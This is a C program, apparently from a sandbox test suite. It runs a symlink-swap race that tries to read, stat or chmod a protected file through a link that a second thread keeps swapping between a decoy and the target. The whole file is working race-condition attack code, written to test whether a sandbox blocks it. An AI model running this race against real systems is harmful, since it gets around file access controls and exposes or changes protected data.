/* Symlink swap race: a thread renames symlinks DIR/link -> DECOY and
 * DIR/link -> TARGET into place while the main thread uses DIR/link, for
 * 1.5 s. Modes as attack_toctou (read, stat, chmod).
 *   attack_symlink MODE TARGET DECOY DIR */
#include "attack.h"
#include <pthread.h>

static char lnk[4096], tmpa[4096], tmpb[4096];
static const char *target, *decoy;
static volatile int stop;

static void *swapper(void *arg)
{
	(void)arg;
	while (!stop) {
		unlink(tmpa);
		symlink(target, tmpa);
		rename(tmpa, lnk);
		unlink(tmpb);
		symlink(decoy, tmpb);
		rename(tmpb, lnk);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	pthread_t th;
	double end;
	const char *mode;
	struct stat st0, st;
	long tries = 0;
	int last = 0;

	if (argc < 5)
		return 2;
	mode = argv[1];
	target = argv[2];
	decoy = argv[3];
	snprintf(lnk, sizeof(lnk), "%s/link", argv[4]);
	snprintf(tmpa, sizeof(tmpa), "%s/link.a", argv[4]);
	snprintf(tmpb, sizeof(tmpb), "%s/link.b", argv[4]);
	if (!strcmp(mode, "chmod") && stat(target, &st0))
		blocked("cannot stat target: %s", ename(errno));
	if (symlink(decoy, lnk) && errno != EEXIST)
		blocked("symlink: %s", ename(errno));
	pthread_create(&th, NULL, swapper, NULL);
	end = now_s() + 1.5;
	while (now_s() < end) {
		tries++;
		if (!strcmp(mode, "read")) {
			int fd = open(lnk, O_RDONLY);
			if (fd < 0)
				last = errno;
			else if (fd_is_secret(fd)) {
				stop = 1;
				escaped("read the protected file through a swapped symlink after %ld tries", tries);
			}
		} else if (!strcmp(mode, "stat")) {
			if (stat(lnk, &st) < 0)
				last = errno;
			else if (S_ISREG(st.st_mode)) {
				stop = 1;
				escaped("stat of the protected file through a swapped symlink after %ld tries", tries);
			}
		} else if (!strcmp(mode, "chmod")) {
			if (chmod(lnk, 0640) < 0)
				last = errno;
			if (stat(target, &st) == 0 && (st.st_mode & 07777) != (st0.st_mode & 07777)) {
				stop = 1;
				chmod(target, st0.st_mode & 07777);
				escaped("chmod of the read-only file through a swapped symlink after %ld tries", tries);
			}
		} else {
			return 2;
		}
	}
	stop = 1;
	pthread_join(th, NULL);
	blocked("%ld tries, last error %s", tries, ename(last));
}
